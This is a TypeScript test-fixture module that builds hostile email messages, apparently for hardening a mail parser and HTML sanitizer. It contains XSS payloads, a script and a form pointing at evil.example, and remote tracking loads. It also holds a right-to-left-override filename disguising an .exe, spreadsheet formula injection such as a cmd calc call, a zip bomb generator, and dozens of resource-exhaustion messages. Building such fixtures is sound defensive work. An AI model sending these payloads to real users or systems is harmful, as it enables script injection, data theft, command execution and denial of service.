// Letters that attack their readers.
import { deflateRawSync } from 'node:zlib'
import { base64Lines, encode } from './charsets.ts'

const head = (...lines: string[]) =>
  [
    'From: Eve <eve@bad.example>',
    'Subject: look',
    'Date: Wed, 10 Jun 2026 12:00:00 +0300',
    'Message-ID: <h@bad.example>',
    'MIME-Version: 1.0',
    ...lines,
  ].join('\r\n')
const html = (markup: string) =>
  `${head('Content-Type: text/html; charset=utf-8')}\r\n\r\n${encode('utf-8', markup)}\r\n`

export const scripts: Readonly<Record<string, string>> = {
  script: html('<p>hi</p><script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT>'),
  handlers: html(
    '<img src=x onerror=alert(1)><div onmouseover="alert(1)">x</div><body onload=alert(1)>',
  ),
  svg: html(
    '<svg onload=alert(1)><script>alert(1)</script><a ' +
      'xlink:href="javascript:alert(1)"><text>t</text></a><animate attributeName=href ' +
      'values=javascript:alert(1) /></svg>',
  ),
  math: html(
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
      'onerror=alert(1)&gt;">',
  ),
  urls: html(
    '<a href="javascript:alert(1)">a</a><a href="data:text/html,<script>1</script>">' +
      'b</a><form action="https://evil.example/take"><input name=p><button ' +
      'formaction=//e.example>x</button></form>',
  ),
  remote: html(
    '<img src="https://t.example/p.gif"><link rel=stylesheet ' +
      'href=https://t.example/c.css><style>@import url(//t.example/x)</style><div ' +
      'style="background:url(https://t.example/b)">x</div><table ' +
      'background=http://t.example/bg><video poster=//t.example/p><iframe ' +
      'src=//t.example></iframe><object data=//t.example></object><base href=//t.example>' +
      '<meta http-equiv=refresh content="0;url=//t.example">',
  ),
  mutation: html(
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' +
      '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x ' +
      'onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp><template><script>' +
      '1</script></template>',
  ),
  comment: html(
    '<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->',
  ),
  entities: html('&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;'),
  utf7:
    `${head('Content-Type: text/html; charset=utf-7')}\r\n\r\n` +
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n',
  subject: `${head().replace('Subject: look', 'Subject: <script>alert(1)</script>')}\r\n\r\nx\r\n`,
}

export const bidiName = encode('utf-8', 'invoice_\u202Efdp.exe')
export const bidi =
  `${head('Content-Type: multipart/mixed; boundary=q').replace('Subject: look', `Subject: ${encode('utf-8', 'pay \u2066now\u2069 \u200Btoday')}`)}\r\n` +
  `\r\n--q\r\nContent-Type: application/octet-stream; name="${bidiName}"\r\n` +
  `Content-Disposition: attachment; filename="${bidiName}"\r\n\r\nMZ\r\n--q--\r\n`

export const formulas = [
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\uFF1D1+1',
  '\uFF0B1',
  '|x',
  '%0A=1',
  '=HYPERLINK("http://e.example")',
]

/** A zip of one MiB that would unpack to one GiB. */
export function zipBomb(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(64 * 1024 * 1024))
  return Buffer.concat([
    Buffer.from('504b030414000000080000000000', 'hex'),
    ...Array.from({ length: 16 }, () => packed),
  ])
}

function nested(depth: number): string {
  let inner = 'Content-Type: text/plain\r\n\r\ndeep\r\n'
  for (let at = depth; at > 0; at -= 1)
    inner =
      `Content-Type: multipart/mixed; boundary="n${at}"\r\n\r\n--n${at}\r\n${inner}\r\n` +
      `--n${at}--\r\n`
  return `${head()}\r\n${inner}`
}

function nestedLetters(depth: number): string {
  let inner = `${head()}\r\n\r\ndeep\r\n`
  for (let at = depth; at > 0; at -= 1)
    inner =
      `${head(`Content-Type: multipart/mixed; boundary="m${at}"`)}\r\n\r\n--m${at}\r\n` +
      `Content-Type: message/rfc822\r\n\r\n${inner}\r\n--m${at}--\r\n`
  return inner
}

const big = 9 * 1024 * 1024
const upTo = (unit: string, size = big) => unit.repeat(Math.floor(size / unit.length))

/** Each has the largest allowed size, for the longest time. */
export const heavy: Readonly<Record<string, () => string>> = {
  'parts nested 100 deep': () => nested(100),
  'parts nested 5,000 deep': () => nested(5_000),
  'letters in letters 100 deep': () => nestedLetters(100),
  'a decoy boundary': () =>
    `${head('X-Decoy: boundary=zzz', 'Content-Type: multipart/mixed; boundary=q')}\r\n` +
    `\r\n${upTo('--q\r\n\r\nx\r\n')}`,
  'a million parts': () =>
    `${head('Content-Type: multipart/mixed; boundary=q')}\r\n\r\n${upTo('--q\r\n\r\nx\r\n')}`,
  'boundary in every line': () =>
    `${head('Content-Type: multipart/mixed; boundary=-')}\r\n\r\n${upTo('---\r\n')}`,
  'a million header fields': () => `${head()}\r\n${upTo('X-A: b\r\n')}\r\nx`,
  'a million Received lines': () =>
    `${upTo(
      'Received: from a (b [192.0.2.1]) by mx.google.com with SMTP id 1; Wed, 10 Jun ' +
        '2026 09:00:00 +0000\r\n',
    )}${head()}\r\n\r\nx`,
  'a million signatures': () =>
    `${upTo(
      'DKIM-Signature: v=1; a=rsa-sha256; d=posta.example; s=s2026; h=from; bh=AAAA; ' +
        'b=AAAA\r\n',
      200 * 1024,
    )}${head()}\r\n\r\nx`,
  'a thousand traces': () =>
    `${upTo('X-Postern-Trace: v=1; k=00000000; t=1; q=a; a=b; i=c; s=d; b=e; h=f\r\n', 200 * 1024)}${head()}\r\n` +
    '\r\nx',
  'a header line of nine mebibytes': () => `${head()}\r\nX-A: ${upTo('a')}\r\n\r\nx`,
  'a million folded lines': () => `${head()}\r\nX-A: b\r\n${upTo(' a\r\n')}\r\nx`,
  'blank folded lines': () => `Subject: a\r\n${upTo(' \r\n', 250 * 1024)}${head()}\r\n\r\nx`,
  'a body of line ends': () => `${head()}\r\n\r\n${upTo('\n')}`,
  'a body of carriage returns': () => `${head()}\r\n\r\n${upTo('\r')}`,
  'a body of blanks': () => `${head()}\r\n\r\n${upTo(' ')}`,
  'a body of one line': () => `${head()}\r\n\r\n${upTo('a')}`,
  'a body of links': () => `${head()}\r\n\r\n${upTo('https://a.example/b ')}`,
  'a link without end': () => `${head()}\r\n\r\nhttps://${upTo('a.')}`,
  'a body of quotation marks': () => upTo('> > > > > > \r\n'),
  'a body of colons': () => upTo('a: b\r\n'),
  'a body of plus signs in UTF-7': () =>
    `${head('Content-Type: text/plain; charset=utf-7')}\r\n\r\n${upTo('+AAA')}`,
  'base64 without end': () =>
    `${head('Content-Type: application/zip', 'Content-Transfer-Encoding: base64')}\r\n` +
    `\r\n${upTo(`${'A'.repeat(76)}\r\n`)}`,
  'quoted-printable without end': () =>
    `${head('Content-Transfer-Encoding: quoted-printable')}\r\n\r\n${upTo('=41')}`,
  'an encoded word without end': () =>
    `From: =?utf-8?Q?${upTo('=41', 15_000)}?= <a@b.example>\r\n` +
    `${upTo('Subject: =?utf-8?B?QQ==?= =?utf-8?B?QQ==?= =?utf-8?B?QQ==?=\r\n', 200 * 1024)}\r\nx`,
  'an address list without end': () =>
    `${head()}\r\n${upTo(`To: ${'a@b.example, '.repeat(1000)}\r\n`, 240 * 1024)}\r\nx`,
  'brackets without end in addresses': () =>
    `${upTo(`To: ${'<('.repeat(7000)}\r\n`, 240 * 1024)}\r\nx`,
  'quotes without end in addresses': () =>
    `From: ${upTo('"\\', 16_000)}\r\nTo: ${upTo('((', 16_000)}\r\n\r\nx`,
  'HTML nested without end': () => html(upTo('<div>', 500_000)),
  'HTML of open tags': () => html(upTo('<a href="x" ', 500_000)),
  'HTML of comments': () => html(upTo('<!--', 500_000)),
  'HTML of entities': () => html(upTo('&amp;&#x26;', 500_000)),
  'HTML of tables': () => html(upTo('<table><tr><td>', 500_000)),
  'HTML of brackets': () => html(upTo('<', 500_000)),
  'HTML of nine mebibytes': () => html(upTo('<p>a</p>')),
  'HTML of scripts': () => html(upTo('<script>', 500_000)),
  'HTML of tables in cells': () => html(upTo('<table><tr><td>', 500_000)),
  'HTML of unclosed paragraphs': () => html(upTo('<p><li><td>', 500_000)),
  'HTML of headings in paragraphs': () => html(upTo('<h1><p>', 500_000)),
  'a forwarded nine mebibytes': () =>
    `${head('Content-Type: multipart/mixed; boundary=q')}\r\n\r\n--q\r\n` +
    'Content-Type: message/rfc822\r\n\r\n' +
    `${head('Content-Type: application/zip', 'Content-Transfer-Encoding: base64')}\r\n` +
    `\r\n${upTo(`${'A'.repeat(76)}\r\n`)}\r\n--q--\r\n`,
  'HTML of attributes': () => html(`<p ${upTo('a=b ', 500_000)}>`),
  'a format=flowed flood': () =>
    `${head('Content-Type: text/plain; format=flowed; delsp=yes')}\r\n\r\n${upTo('a \r\n')}`,
  'a calendar flood': () =>
    `${head('Content-Type: text/calendar; method=REQUEST')}\r\n\r\n${upTo('\r\n')}`,
  'parameters without end': () =>
    `${head(`Content-Type: text/plain; ${upTo('a*0*=b; ', 15_000)}`)}\r\n\r\nx`,
  'continued parameters': () =>
    `${head(
      'Content-Type: multipart/mixed; ' +
        `${Array.from({ length: 900 }, (_, at) => `boundary*${at}=a`).join('; ')}`,
    )}\r\n\r\n--a\r\n\r\nx`,
  'brackets in a Received line': () => `Received: from ${upTo('(', 16_000)}\r\n${head()}\r\n\r\nx`,
  'a UTF-16 mark and rubbish': () => `\u00ff\u00fe${upTo('\u00d8\u0000')}`,
  'nothing but zeros': () => upTo('\u0000'),
  'a zip bomb': () =>
    `${head('Content-Type: multipart/mixed; boundary=q')}\r\n\r\n--q\r\n` +
    'Content-Type: application/zip; name=b.zip\r\nContent-Transfer-Encoding: base64\r\n' +
    `\r\n${base64Lines(zipBomb().toString('latin1'))}\r\n--q--\r\n`,
  'a feedback report flood': () =>
    `${head('Content-Type: multipart/report; boundary=q')}\r\n\r\n--q\r\n` +
    'Content-Type: message/feedback-report\r\n\r\n' +
    `${upTo('Feedback-Type: abuse\r\n ', 1_000_000)}\r\n--q--\r\n`,
  'forward marks without end': () => `${head()}\r\n\r\n${upTo('-------- \r\nFrom: \r\n')}`,
}
